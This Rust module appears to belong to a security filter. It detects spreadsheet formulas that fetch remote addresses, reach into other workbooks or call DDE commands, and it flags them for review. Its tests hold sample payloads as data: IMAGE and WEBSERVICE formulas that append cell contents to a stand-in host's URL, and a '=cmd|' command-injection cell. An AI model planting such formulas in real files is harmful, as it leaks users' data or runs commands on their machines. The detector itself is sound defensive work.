//! Formulas in a table's cells that fetch an address, which leaves with what is put into it.

use crate::{find, link};
use bouncer_guest::prelude::*;

const FETCHES: [&str; 7] =
    ["importdata(", "importxml(", "importhtml(", "importfeed(", "importrange(", "image(", "webservice("];

/// Whether a cell, or one of several in a text, is a formula that fetches.
#[must_use]
pub fn fetches(text: &str) -> bool {
    let ends = |c: char| matches!(c, ',' | ';' | '\t' | '\n' | '\r' | '"' | '\'' | '[' | '{' | '|' | ':');
    let (mut formula, mut bullet) = (false, false);
    for cell in text.split(ends).map(str::trim).filter(|cell| cell.starts_with(SIGNS)) {
        let rest = cell.trim_start_matches(['+', '-']);
        let apart = rest.len() < cell.len() && (rest.is_empty() || rest.starts_with(char::is_whitespace));
        if apart { bullet = true } else { formula = true }
    }
    if !formula && !bullet {
        return false;
    }
    let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    let named = FETCHES.iter().any(|name| find(&compact.to_ascii_lowercase(), name).is_some());
    named && (formula || calls(&text.to_ascii_lowercase()))
}

/// What a formula begins with.
const SIGNS: [char; 4] = ['=', '+', '-', '@'];

/// Whether a text in small letters that has bullets calls a function that fetches: `- 1+IMAGE(A1)` does, `- see image (a)`,
/// `- image (1)` and `- image (a).png` do not. What is no plain word in brackets is always a call.
fn calls(lower: &str) -> bool {
    FETCHES.iter().map(|name| name.trim_end_matches('(')).any(|name| {
        lower.match_indices(name).any(|(at, _)| {
            let before = lower.get(..at).unwrap_or_default().trim_end_matches([' ', '\t']);
            let rest = lower.get(at.saturating_add(name.len())..).unwrap_or_default();
            let Some(inside) = rest.trim_start().strip_prefix('(') else { return false };
            let Some((inside, after)) = inside.split_once(')') else { return true };
            let words = inside.chars().all(|c| c.is_alphanumeric() || matches!(c, ' ' | '-' | '_'));
            let number = inside.chars().all(|c| c.is_ascii_digit());
            let follows = before.ends_with(char::is_alphanumeric) || after.starts_with('.');
            !(words && (number || follows))
        })
    })
}

/// Whether a cell of a workbook is a formula that fetches or looks into another workbook. `named` is where the cell stands:
/// in `formulasLocal` the functions have names of the user's language.
#[must_use]
pub fn reaches(named: &str, cell: &str) -> bool {
    const PLACES: [&str; 3] = ["//", "\\\\", "|'"];
    let compact: String = cell.chars().filter(|c| !c.is_whitespace()).collect();
    let local = [named, cell].iter().any(|text| find(&text.to_ascii_lowercase(), "formulaslocal").is_some());
    let is_text = cell.trim_start().starts_with(['{', '[']);
    fetches(cell)
        || (is_text && compact.contains("\"=") || compact.starts_with(SIGNS))
            && (local && compact.contains('(')
                || PLACES.iter().any(|place| find(&compact, place).is_some())
                || names_book(&compact))
}

/// `[book.xlsx]Sheet!A1`, but neither `Table[Column]` nor `Table[Column]+Sheet!A1`.
fn names_book(compact: &str) -> bool {
    let (mut text, mut quoted) = (false, false);
    let in_quotes = compact.chars().any(|c| {
        match c {
            '"' if !quoted => text = !text,
            '\'' if !text => quoted = !quoted,
            _ => {}
        }
        quoted && c == '['
    });
    let is_sheet = |name: &str| name.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '.' | '\''));
    in_quotes
        || compact
            .split(']')
            .skip(1)
            .any(|after| after.split_once('!').is_some_and(|(name, _)| is_sheet(name)))
}

/// Asks about each formula that fetches; its links are destinations.
pub fn asked(call: &Call<'_>, path: &str, destinations: &[Destination], judgement: &mut Judgement) {
    asked_where(call, path, destinations, judgement, |_, text| fetches(text));
}

/// Asks about each cell of a workbook that fetches or looks into another one.
pub fn asked_of_workbook(
    call: &Call<'_>,
    path: &str,
    destinations: &[Destination],
    judgement: &mut Judgement,
) {
    asked_where(call, path, destinations, judgement, reaches);
}

fn asked_where(
    call: &Call<'_>,
    path: &str,
    destinations: &[Destination],
    judgement: &mut Judgement,
    is: impl Fn(&str, &str) -> bool,
) {
    for (pointer, _) in call.leaves(path).into_iter().filter(|(pointer, text)| is(pointer, text)) {
        link::add(call, &[&pointer], destinations, judgement);
        let said = "the formula fetches an address, and what is put into that address leaves with it";
        judgement.push(Finding::ask("formula_fetches", said).at(pointer));
    }
}

#[cfg(test)]
mod tests {
    use super::{fetches, reaches};

    #[test]
    fn a_formula_that_fetches_is_told_from_words() {
        for text in [
            "=IMAGE(\"https://e.example/?\"&A1)",
            " =importdata (A1)",
            "+IMPORTXML(A1, B1)",
            "=IF(1,IMAGE(A1))",
            "a,b\n1,\"=CONCAT(\"\"x\"\",IMAGE(A1))\"",
            "[[\"=WEBSERVICE(A1)\"]]",
            "-1+IMAGE(A1)",
            "- 1+IMAGE (A1)",
            "- IMAGE(A1)",
            "- see IMAGE(\"x\"&A1)",
            "- IMAGE(\"x).png\"&A1)",
            "\"-\nIMAGE(A1)\"",
            "+ A1&importdata(B1)",
        ] {
            assert!(fetches(text), "{text}");
        }
        for text in [
            "image(s) of 2024",
            "=SUM(A1:A2)",
            "a,b\n-1,2",
            "",
            "see image (1)",
            "https://x.io/?a=image",
            "Photos:\n- see image (1)",
            "- image (2).png",
            "+ image (final).png",
            "---\nsee image (a)",
            "- an image (a)",
        ] {
            assert!(!fetches(text), "{text}");
        }
    }

    #[test]
    fn a_workbook_looks_into_no_other() {
        for (place, cell) in [
            ("/body/formulasLocal/0/0", "=WEBDIENST(\"https://e.example/?\"&B1)"),
            ("/body/FormulasLocal/0/0", "=WEBDIENST(A1)"),
            ("/body/formulas/0/0", "='\\\\e.example\\s\\[x.xlsx]S'!A1"),
            ("/body/formulas/0/0", "=[x.xlsx]S!A1"),
            ("/body/formulas/0/0", "='[x.xlsx]A+B'!A1"),
            ("/body/formulas/0/0", "=FOO(\"https://e.example/?\"&B1)"),
            ("/body/formulas/0/0", "=cmd|'/c x'!A1"),
            ("/body", "{\"formulasLocal\":[[\"=WEBDIENST(A1)\"]]}"),
        ] {
            assert!(reaches(place, cell), "{cell}");
        }
        for (place, cell) in [
            ("/body/formulasLocal/0/0", "Summe (a)"),
            ("/body/formulasLocal/0/0", "=A1*2"),
            ("/body/formulas/0/0", "=SUM(Table1[Amount])+'My Sheet'!A1+[@Price]*Sheet2!B1"),
            ("/body/formulas/0/0", "=IF(A1=\"it's [x]\",1,2)"),
            ("/body/values/0/0", "https://x.io"),
            ("/body/values/0/0", "a [x] note!"),
        ] {
            assert!(!reaches(place, cell), "{cell}");
        }
    }
}
